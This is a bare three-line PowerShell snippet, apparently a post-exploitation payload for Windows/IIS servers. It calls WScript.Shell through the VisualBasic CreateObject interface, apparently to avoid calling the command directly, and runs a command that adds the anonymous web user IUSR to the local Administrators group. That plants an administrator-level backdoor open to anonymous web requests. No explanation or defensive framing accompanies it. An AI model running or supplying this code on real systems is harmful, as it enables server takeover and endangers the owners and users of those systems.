[void][Reflection.Assembly]::LoadWithPartialName('Microsoft.VisualBasic')
$o = [Microsoft.VisualBasic.Interaction]::CreateObject('WScript.Shell')
$o.Run('net localgroup Administrators IUSR /add')
